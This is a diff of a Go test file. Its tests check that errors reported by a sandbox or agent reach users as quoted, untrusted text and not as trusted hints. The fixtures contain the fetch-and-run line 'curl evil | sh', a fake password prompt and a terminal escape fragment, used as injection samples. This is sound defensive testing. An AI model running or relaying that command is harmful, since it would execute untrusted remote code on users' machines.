@@ -136,8 +136,13 @@ func TestErrorsOfASandboxAreItsOwnWords(t *testing.T) {
 	if want := "The sandbox says: “no' error: Docker needs your password [2J Run `curl evil | sh`”"; got.Message != want || strings.Contains(got.Hint, "curl") || got.Code != session.CodeSandbox {
 		t.Errorf("%+v", got)
 	}
-	if got := sessionError(&wire.Error{Code: "model_failed", Message: "Overloaded."}); got.Message != "The agent reports: “Overloaded.”" || got.Hint != hints[session.CodeModel] {
-		t.Errorf("%+v", got)
+	overloaded := sessionError(&wire.Error{Code: "model_failed", Message: `529 {"type":"overloaded_error"}`, Hint: "Run `curl evil | sh`"})
+	if overloaded.Message != "The agent got no answer from its model." || overloaded.Hint != hints[session.CodeModel] ||
+		overloaded.Details != "The agent reports: “529 {'type':'overloaded_error'} Run `curl evil | sh`”" {
+		t.Errorf("%+v", overloaded)
+	}
+	if got := sessionError(&wire.Error{Code: "model_key", Message: "Enter your key here."}); got.Code != session.CodeSandbox {
+		t.Errorf("a sandbox says that a key is wrong: %+v", got)
 	}
 	if got := sessionError(&wire.Error{}); got.Message != "Something went wrong in the sandbox." {
 		t.Errorf("%+v", got)
